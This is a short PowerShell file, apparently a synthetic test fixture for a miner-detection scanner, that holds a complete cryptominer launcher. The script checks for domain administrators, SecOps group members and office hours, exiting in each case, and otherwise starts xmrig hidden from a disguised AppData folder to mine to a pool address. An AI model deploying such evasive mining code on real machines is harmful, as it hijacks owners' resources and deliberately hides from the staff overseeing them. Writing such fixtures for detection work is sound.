# SYNTHETIC TEST FIXTURE for minerscan: harmless text, never executed. Addresses are generated, hosts are documentation ranges or public pool names.
# Domain-policy miner: stays quiet for administrators and security staff and during office hours.
$user = $env:USERNAME
$admins = Get-ADGroupMember "Domain Admins" | Select-Object -ExpandProperty SamAccountName
if ($admins -contains $user) { exit }
if ((whoami /groups) -match "SecOps") { exit }
$h = (Get-Date).Hour
if ($h -ge 8 -and $h -lt 19) { exit }
$dir = "$env:APPDATA\Microsoft\Crypto\svc"
Start-Process -FilePath "$dir\xmrig.exe" -ArgumentList "-o 198.51.100.12:3333 -u 41pmnqWeNug1ikEBmYhajkDoyXHMNd5nSRuAdPwsKWQSdphFyVWJQ3t76QN1Jt34YJKBdf6thxZazXGpmDVCezCzVXJinrj --donate-level 1 --background" -WindowStyle Hidden
